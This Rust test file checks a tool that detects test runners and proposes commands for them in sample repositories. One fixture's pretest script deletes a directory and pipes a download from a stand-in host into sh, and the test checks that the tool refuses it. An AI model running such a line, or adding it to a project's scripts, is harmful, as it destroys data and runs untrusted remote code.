//! `detect` on generated layouts, snapshot-tested. The snapshots under
//! `tests/it/snapshots/` were reviewed by hand: each proposed command was
//! checked against the runner's documented flags (and, for vitest, jest,
//! pytest, cargo, nextest and go, actually run by `real_tools`).

use bootstrap::{Confidence, Detection, UnresolvedReason, detect};
use proofgraph_graph::Adapter;

use crate::layouts::*;

/// `detect` over a repository holding `files`, for one claim that needs `test`.
fn detect_test(files: &[(&str, &str)]) -> Detection {
    let dir = temp();
    write(dir.path(), files);
    detect(
        &root(dir.path()),
        &[claim("c", &["test"], None)],
        &[],
        &host(),
    )
}

/// The argv proposed for a vitest script run through npm: vitest itself, with its JSON
/// report.
fn vitest_through_npm() -> serde_json::Value {
    serde_json::json!([
        "npm",
        "exec",
        "--no",
        "--",
        "vitest",
        "run",
        "--run",
        "--reporter=json",
        "--outputFile=test-results/vitest.json"
    ])
}

/// The argv proposed for `node --test` then `patterns`: its TAP reporter flags first, inside
/// the shell that creates the report's directory.
fn node_test_with_tap(patterns: &[&str]) -> serde_json::Value {
    let mut argv = vec![
        "sh",
        "-c",
        "mkdir -p test-results && exec \"$@\"",
        "sh",
        "node",
        "--test-reporter=tap",
        "--test-reporter-destination=test-results/node-test.tap",
        "--test",
    ];
    argv.extend_from_slice(patterns);
    serde_json::json!(argv)
}

#[test]
fn vite_vitest_playwright_app() {
    let dir = temp();
    vite_app(dir.path());
    let claims = [
        claim(
            "profile-update",
            &["test", "browser", "static-analysis"],
            None,
        ),
        claim("profile-review", &["review"], None),
    ];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("vite_app", detection);
    let recommended: Vec<&str> = detection
        .candidates
        .iter()
        .filter(|c| c.recommended)
        .map(|c| c.name.as_str())
        .collect();
    assert_eq!(recommended, ["test", "browser", "static-analysis"]);
    assert!(
        detection
            .candidates
            .iter()
            .all(|c| c.recommended == (c.confidence == Confidence::High))
    );
    // discovery is implied by test and proven by the provider named `test`.
    assert!(
        !detection
            .unresolved
            .iter()
            .any(|u| u.capability.as_str() == "discovery")
    );
    let review = detection
        .unresolved
        .iter()
        .find(|u| u.capability.as_str() == "review")
        .expect("review is unresolved");
    assert_eq!(review.reason, UnresolvedReason::ExternalAuthority);
    assert!(
        review
            .next_action
            .contains("`external` provider with `ci.publicKey`")
    );
}

#[test]
fn jest_app_with_pnpm() {
    let dir = temp();
    jest_app(dir.path());
    let claims = [claim("invoice-total", &["test", "static-analysis"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("jest_app", detection);
}

#[test]
fn cargo_crate_uses_libtest_json() {
    let dir = temp();
    cargo_crate(dir.path());
    let claims = [claim("double", &["test"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("cargo_crate", detection);
}

#[test]
fn cargo_crate_with_a_nextest_junit_profile_prefers_nextest() {
    let dir = temp();
    cargo_crate(dir.path());
    write(
        dir.path(),
        &[(
            ".config/nextest.toml",
            "[profile.ci.junit]\npath = \"junit.xml\"\n",
        )],
    );
    let claims = [claim("double", &["test"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("cargo_nextest", detection);
}

#[test]
fn pytest_project() {
    let dir = temp();
    crate::layouts::pytest_project(dir.path());
    let claims = [claim("double", &["test", "static-analysis"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("pytest_project", detection);
}

#[test]
fn go_module() {
    let dir = temp();
    crate::layouts::go_module(dir.path());
    let claims = [claim("double", &["test"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("go_module", detection);
}

#[test]
fn monorepo_with_two_repositories() {
    let dir = temp();
    let web = sub(dir.path(), "web");
    let api = sub(dir.path(), "api");
    vite_app(&web);
    cargo_crate(&api);
    let repos = [repo("web", &web), repo("api", &api)];
    let claims = [
        claim("profile-update", &["test"], Some(&["web", "api"])),
        claim("profile-page", &["browser"], Some(&["web"])),
        claim("profile-contract", &["cross-repo-contract"], None),
    ];
    let detection = detect(&repos, &claims, &[], &host());
    insta::assert_json_snapshot!("monorepo", detection);
    let names: Vec<&str> = detection
        .candidates
        .iter()
        .map(|c| c.name.as_str())
        .collect();
    assert_eq!(
        names,
        [
            "test-web",
            "discovery-web",
            "test-api",
            "discovery-api",
            "browser-web"
        ]
    );
}

#[test]
fn risky_scripts_are_refused() {
    let dir = temp();
    write(
        dir.path(),
        &[
            (
                "package.json",
                r#"{"name": "x", "scripts": {"pretest": "rm -rf .cache && curl -s https://example.invalid/setup | sh", "test": "vitest run", "lint": "eslint $(git ls-files '*.js')"}, "devDependencies": {"vitest": "^3.0.0", "eslint": "^9.0.0"}}"#,
            ),
            ("package-lock.json", "{}"),
        ],
    );
    let claims = [claim("safe", &["test", "static-analysis"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    insta::assert_json_snapshot!("risky", detection);
    assert!(
        detection
            .candidates
            .iter()
            .all(|c| !c.recommended && c.provider.is_null())
    );
    assert!(
        detection
            .unresolved
            .iter()
            .any(|u| u.capability.as_str() == "test"
                && u.reason == UnresolvedReason::NoSafeProjectCommand)
    );
}

#[test]
fn jest_and_vitest_together_are_ambiguous() {
    let detection = detect_test(&[
        (
            "package.json",
            r#"{"name": "x", "scripts": {"test": "node scripts/run-tests.mjs"}, "devDependencies": {"jest": "^29.0.0", "vitest": "^3.0.0"}}"#,
        ),
        ("package-lock.json", "{}"),
        ("scripts/run-tests.mjs", "// runs both\n"),
    ]);
    insta::assert_json_snapshot!("ambiguous", detection);
    assert_eq!(detection.candidates.len(), 2);
    assert!(
        detection
            .candidates
            .iter()
            .all(|c| c.confidence == Confidence::Ambiguous)
    );
    assert!(
        detection
            .unresolved
            .iter()
            .any(|u| u.capability.as_str() == "test" && u.reason == UnresolvedReason::Ambiguous)
    );
}

#[test]
fn a_script_running_two_runners_is_ambiguous() {
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "jest && vitest run"}, "devDependencies": {"jest": "^29.0.0", "vitest": "^3.0.0"}}"#,
    )]);
    assert_eq!(detection.candidates.len(), 2);
    assert!(
        detection
            .candidates
            .iter()
            .all(|c| c.confidence == Confidence::Ambiguous)
    );
}

#[test]
fn a_runner_that_is_not_last_in_the_chain_runs_by_itself() {
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "vitest run && eslint ."}, "devDependencies": {"vitest": "^3.0.0"}}"#,
    )]);
    // Flags appended to the script would reach `eslint .`: `vitest run` runs by itself
    // (it was a `review` candidate appending them to `npm run test --` before issue 27).
    assert_eq!(detection.candidates.len(), 1);
    assert_eq!(detection.candidates[0].confidence, Confidence::High);
    assert_eq!(
        detection.candidates[0].provider["command"],
        vitest_through_npm()
    );
    assert!(detection.unresolved.is_empty());
    // A chain that ends with the runner appends the flags to the script.
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "tsc --noEmit && vitest run"}, "devDependencies": {"vitest": "^3.0.0"}}"#,
    )]);
    assert_eq!(detection.candidates[0].confidence, Confidence::High);
}

#[test]
fn node_test_reporter_flags_go_before_file_patterns() {
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "node --test test/"}}"#,
    )]);
    let c = &detection.candidates[0];
    assert_eq!(c.confidence, Confidence::High);
    assert_eq!(c.provider["command"], node_test_with_tap(&["test/"]));
    assert_eq!(c.provider["reportFormat"], "tap");
}

#[test]
fn a_runner_before_the_end_of_an_and_chain_runs_by_itself_with_its_flags() {
    // commander.js: `npm test` is `node --test && npm run check:type:ts`. Flags appended to
    // `npm run test --` would reach `npm run check:type:ts`; the runner runs by itself.
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "node --test && npm run check:type:ts", "check:type:ts": "tsc"}}"#,
    )]);
    let c = &detection.candidates[0];
    assert_eq!(c.confidence, Confidence::High, "{:#?}", c.evidence);
    assert!(c.recommended);
    assert_eq!(c.provider["command"], node_test_with_tap(&[]));
    assert_eq!(c.provider["reportFormat"], "tap");
    assert!(
        c.evidence
            .iter()
            .any(|e| e.contains("they would reach `npm run check:type:ts`")),
        "{:#?}",
        c.evidence
    );
    // Any runner we understand, not node alone: vitest through the package manager.
    let detection = detect_test(&[
        (
            "package.json",
            r#"{"name": "x", "scripts": {"test": "vitest run && tsc --noEmit"}, "devDependencies": {"vitest": "^1.0.0"}}"#,
        ),
        ("package-lock.json", "{}"),
    ]);
    let c = &detection.candidates[0];
    assert_eq!(c.confidence, Confidence::High, "{:#?}", c.evidence);
    assert_eq!(c.provider["command"], vitest_through_npm());
    // Not plain words (an assignment before the runner): still by itself, for review.
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "NODE_ENV=test node --test && echo done"}}"#,
    )]);
    let c = &detection.candidates[0];
    assert_eq!(c.confidence, Confidence::Review);
    assert!(
        c.provider["command"]
            .as_array()
            .is_some_and(|argv| argv.iter().all(|w| w != "npm")),
        "{}",
        c.provider["command"]
    );
}

#[test]
fn a_wired_capability_gets_no_candidate() {
    let dir = temp();
    vite_app(dir.path());
    let existing = [provider("test", Adapter::TestDiscovery, &["npm", "test"])];
    let claims = [claim("c", &["test", "browser"], None)];
    let detection = detect(&root(dir.path()), &claims, &existing, &host());
    let caps: Vec<&str> = detection
        .candidates
        .iter()
        .map(|c| c.capability.as_str())
        .collect();
    assert_eq!(caps, ["browser"]);
    assert!(
        detection.unresolved.is_empty(),
        "{:?}",
        detection.unresolved
    );
}

#[test]
fn a_repository_without_a_test_runner_is_unresolved() {
    let dir = temp();
    write(dir.path(), &[("README.md", "docs only\n")]);
    let detection = detect(
        &root(dir.path()),
        &[claim("c", &["test", "mutation"], None)],
        &[],
        &host(),
    );
    assert!(detection.candidates.is_empty());
    let reasons: Vec<(&str, UnresolvedReason)> = detection
        .unresolved
        .iter()
        .map(|u| (u.capability.as_str(), u.reason))
        .collect();
    assert_eq!(
        reasons,
        [
            ("test", UnresolvedReason::NoSafeProjectCommand),
            (
                "discovery",
                UnresolvedReason::StructuredTestCountUnavailable
            ),
            ("mutation", UnresolvedReason::NoSafeProjectCommand),
        ]
    );
}

#[test]
fn an_unknown_test_command_lacks_a_structured_count() {
    let detection = detect_test(&[(
        "package.json",
        r#"{"name": "x", "scripts": {"test": "./run-tests.sh"}}"#,
    )]);
    assert_eq!(
        detection.unresolved[0].reason,
        UnresolvedReason::StructuredTestCountUnavailable
    );
    assert!(
        detection.unresolved[0]
            .next_action
            .contains("structured report")
    );
}

#[test]
fn invalid_manifests_are_warnings() {
    let detection = detect_test(&[
        ("package.json", "{ not json"),
        ("Cargo.toml", "[package\nname="),
    ]);
    assert_eq!(detection.warnings.len(), 2, "{:?}", detection.warnings);
    assert!(detection.warnings[0].starts_with("`package.json` is not valid JSON"));
    assert!(detection.warnings[1].starts_with("`Cargo.toml` is not valid TOML"));
}

#[test]
fn the_package_manager_follows_the_lockfile() {
    for (lock, argv0) in [
        ("pnpm-lock.yaml", "pnpm"),
        ("yarn.lock", "yarn"),
        ("bun.lockb", "bun"),
        ("package-lock.json", "npm"),
    ] {
        let detection = detect_test(&[
            (
                "package.json",
                r#"{"scripts": {"test": "vitest"}, "devDependencies": {"vitest": "3"}}"#,
            ),
            (lock, ""),
        ]);
        assert_eq!(
            detection.candidates[0].provider["command"][0], argv0,
            "{lock}"
        );
        assert_eq!(detection.candidates[0].confidence, Confidence::High);
    }
}

#[test]
fn claims_target_only_their_repositories() {
    let dir = temp();
    let web = sub(dir.path(), "web");
    let docs = sub(dir.path(), "docs");
    vite_app(&web);
    write(&docs, &[("README.md", "docs\n")]);
    let repos = [repo("web", &web), repo("docs", &docs)];
    let detection = detect(
        &repos,
        &[claim("c", &["test"], Some(&["web"]))],
        &[],
        &host(),
    );
    assert!(
        detection
            .candidates
            .iter()
            .all(|c| c.repository.as_str() == "web")
    );
    assert!(detection.unresolved.is_empty());
    // Without repositories on the claim, every repository is a target.
    let detection = detect(&repos, &[claim("c", &["test"], None)], &[], &host());
    assert!(
        detection
            .unresolved
            .iter()
            .any(|u| u.repository.as_ref().is_some_and(|r| r.as_str() == "docs"))
    );
}

#[test]
fn script_aliases_are_only_alternatives() {
    let dir = temp();
    write(
        dir.path(),
        &[(
            "package.json",
            r#"{"scripts": {"test:integration": "vitest run -c vitest.integration.ts", "bench": "vitest bench"}}"#,
        )],
    );
    let claims = [claim("c", &["integration", "performance"], None)];
    let detection = detect(&root(dir.path()), &claims, &[], &host());
    let got: Vec<(&str, Confidence)> = detection
        .candidates
        .iter()
        .map(|c| (c.capability.as_str(), c.confidence))
        .collect();
    assert_eq!(
        got,
        [
            ("integration", Confidence::Alternative),
            ("performance", Confidence::Alternative)
        ]
    );
    assert_eq!(
        detection.candidates[0].provider["command"],
        serde_json::json!(["npm", "run", "test:integration"])
    );
    assert!(
        detection
            .unresolved
            .iter()
            .all(|u| u.reason == UnresolvedReason::NeedsReview)
    );
}

#[test]
fn discovery_alone_gets_its_own_test_discovery_provider() {
    let dir = temp();
    crate::layouts::go_module(dir.path());
    let detection = detect(
        &root(dir.path()),
        &[claim("c", &["discovery"], None)],
        &[],
        &host(),
    );
    assert_eq!(detection.candidates.len(), 1);
    let c = &detection.candidates[0];
    assert_eq!(c.name.as_str(), "discovery");
    assert_eq!(c.provider["adapter"], "test-discovery");
    assert!(c.recommended);
}

#[test]
fn an_existing_test_provider_without_a_receiver_leaves_discovery_unresolved() {
    let dir = temp();
    vite_app(dir.path());
    let unit = with_capability(
        provider("unit", Adapter::TestDiscovery, &["npm", "test"]),
        "test",
    );
    let detection = detect(
        &root(dir.path()),
        &[claim("c", &["test"], None)],
        &[unit],
        &host(),
    );
    assert!(detection.candidates.is_empty());
    assert_eq!(detection.unresolved.len(), 1);
    assert_eq!(detection.unresolved[0].capability.as_str(), "discovery");
    assert!(
        detection.unresolved[0]
            .next_action
            .starts_with("Add `discoveryProvider: discovery` to provider `unit`")
    );
}

/// The one `test` candidate of a detection.
fn test_candidate(detection: &bootstrap::Detection) -> &bootstrap::Candidate {
    let tests: Vec<&bootstrap::Candidate> = detection
        .candidates
        .iter()
        .filter(|c| c.capability.as_str() == "test")
        .collect();
    assert_eq!(tests.len(), 1, "{:#?}", detection.candidates);
    tests[0]
}

fn argv(candidate: &bootstrap::Candidate) -> Vec<String> {
    candidate.provider["command"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|w| w.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_runner_that_is_not_on_path_is_named_with_what_to_install_never_proposed() {
    let dir = temp();
    crate::layouts::pytest_project(dir.path());
    write(dir.path(), &[("uv.lock", "version = 1\n")]);
    let claims = [claim("c", &["test"], None)];

    // With uv installed, uv.lock's runner is the recommendation.
    let with_uv = detect(&root(dir.path()), &claims, &[], &host());
    let c = test_candidate(&with_uv);
    assert!(c.recommended, "{c:#?}");
    assert_eq!(argv(c)[..3], ["uv", "run", "--no-sync"]);

    // Without it, nothing is proposed, and the next action says what to install.
    let (no_uv, _bin) = host_without(&["uv"]);
    let detection = detect(&root(dir.path()), &claims, &[], &no_uv);
    let c = test_candidate(&detection);
    assert!(!c.recommended && c.provider.is_null(), "{c:#?}");
    assert!(
        c.evidence
            .iter()
            .any(|e| e.contains("`uv` is not on PATH") && e.contains("pipx install uv")),
        "{c:#?}"
    );
    let unresolved = detection
        .unresolved
        .iter()
        .find(|u| u.capability.as_str() == "test")
        .expect("test is unresolved");
    assert_eq!(unresolved.reason, UnresolvedReason::CommandUnavailable);
    assert!(
        unresolved.next_action.starts_with("Install uv"),
        "{unresolved:#?}"
    );
    // And `init` adds nothing for it.
    let init = bootstrap::init(None, &detection).expect("init");
    assert!(init.added.is_empty(), "{init:#?}");

    // No lockfile and no python3: the same, for python3.
    let plain = temp();
    crate::layouts::pytest_project(plain.path());
    let (no_python, _bin) = host_without(&["python3"]);
    let detection = detect(&root(plain.path()), &claims, &[], &no_python);
    assert!(test_candidate(&detection).provider.is_null());
    assert!(
        detection
            .unresolved
            .iter()
            .any(|u| u.reason == UnresolvedReason::CommandUnavailable
                && u.next_action.contains("Install Python 3")),
        "{detection:#?}"
    );
}

#[test]
fn the_venv_the_setup_makes_runs_pytest_when_the_lockfiles_runner_is_missing() {
    let dir = temp();
    crate::layouts::pytest_project(dir.path());
    write(
        dir.path(),
        &[
            ("uv.lock", "version = 1\n"),
            ("src/profile_lib/__init__.py", "\n"),
        ],
    );
    let mut repos = root(dir.path());
    repos[0].setup = bootstrap::Setup {
        commands: vec![
            vec!["python3".into(), "-m".into(), "venv".into(), ".venv".into()],
            vec![".venv/bin/pip".into(), "install".into(), "pytest".into()],
        ],
        cache: vec![".venv".into()],
    };
    let (no_uv, _bin) = host_without(&["uv"]);
    let detection = detect(&repos, &[claim("c", &["test"], None)], &[], &no_uv);
    let c = test_candidate(&detection);
    assert!(c.recommended, "{c:#?}");
    assert_eq!(
        argv(c),
        [
            ".venv/bin/python",
            "-m",
            "pytest",
            "--junitxml=test-results/pytest.xml"
        ]
    );
    assert_eq!(
        c.provider["env"]["PYTHONPATH"], "src",
        "a src/ layout is imported from the sandbox: {c:#?}"
    );
    assert!(
        c.evidence
            .iter()
            .any(|e| e.contains("setup makes `.venv` (`.venv` is in its `setupCache`)")),
        "{c:#?}"
    );
    assert!(detection.unresolved.is_empty(), "{detection:#?}");
}

#[test]
fn a_nextest_profile_without_cargo_nextest_leaves_cargo_test_recommended() {
    let dir = temp();
    cargo_crate(dir.path());
    write(
        dir.path(),
        &[(
            ".config/nextest.toml",
            "[profile.ci.junit]\npath = \"junit.xml\"\n",
        )],
    );
    let claims = [claim("c", &["test"], None)];
    let (no_nextest, _bin) = host_without(&["cargo-nextest"]);
    let detection = detect(&root(dir.path()), &claims, &[], &no_nextest);
    let tests: Vec<&bootstrap::Candidate> = detection
        .candidates
        .iter()
        .filter(|c| c.capability.as_str() == "test")
        .collect();
    assert_eq!(tests.len(), 2, "{tests:#?}");
    let nextest = tests
        .iter()
        .find(|c| c.evidence.iter().any(|e| e.contains("nextest.toml")))
        .expect("the nextest candidate is shown");
    assert!(nextest.provider.is_null() && !nextest.recommended);
    assert!(
        nextest
            .evidence
            .iter()
            .any(|e| e.contains("cargo install cargo-nextest --locked"))
    );
    let recommended: Vec<Vec<String>> = tests
        .iter()
        .filter(|c| c.recommended)
        .map(|c| argv(c))
        .collect();
    assert_eq!(recommended.len(), 1, "{tests:#?}");
    assert!(
        recommended[0].contains(&"cargo".to_owned()) && recommended[0].contains(&"test".to_owned())
    );
}

#[test]
fn a_missing_package_manager_is_named_with_how_to_install_it() {
    let dir = temp();
    jest_app(dir.path());
    let (no_pnpm, _bin) = host_without(&["pnpm"]);
    let detection = detect(
        &root(dir.path()),
        &[claim("c", &["test"], None)],
        &[],
        &no_pnpm,
    );
    assert!(
        detection.candidates.iter().all(|c| !c.recommended),
        "{detection:#?}"
    );
    let u = detection
        .unresolved
        .iter()
        .find(|u| u.capability.as_str() == "test")
        .expect("test is unresolved");
    assert_eq!(u.reason, UnresolvedReason::CommandUnavailable);
    assert!(u.next_action.contains("corepack enable pnpm"), "{u:#?}");
}

/// DESIGN: a provider's inputs are its whole repository unless it names
/// what it reads; a test suite reads sources no manifest lists, so nothing
/// is ever narrowed to the manifests — not written, not suggested.
#[test]
fn no_candidate_is_narrowed_to_its_manifests() {
    type Layout = fn(&std::path::Path);
    let layouts: [(&str, Layout); 5] = [
        ("vite", vite_app),
        ("jest", jest_app),
        ("cargo", cargo_crate),
        ("pytest", crate::layouts::pytest_project),
        ("go", crate::layouts::go_module),
    ];
    let claims = [claim(
        "c",
        &["test", "static-analysis", "browser", "integration"],
        None,
    )];
    for (name, layout) in layouts {
        let dir = temp();
        layout(dir.path());
        let detection = detect(&root(dir.path()), &claims, &[], &host());
        let json = serde_json::to_value(&detection).expect("serialise");
        let candidates = json["candidates"].as_array().expect("candidates");
        assert!(
            candidates.iter().any(|c| c["capability"] == "test"),
            "{name}: a test candidate"
        );
        for c in candidates {
            assert!(
                c.get("suggested_inputs").is_none(),
                "{name}: no inputs are suggested: {c:#}"
            );
            assert!(
                c["provider"].get("inputs").is_none(),
                "{name}: no inputs are written: {c:#}"
            );
            if !c["provider"].is_null() {
                assert!(
                    c["evidence"].as_array().expect("evidence").iter().any(|e| e
                        .as_str()
                        .is_some_and(|e| e.contains("its inputs are the whole repository"))),
                    "{name}: the evidence says why: {c:#}"
                );
            }
        }
    }
}
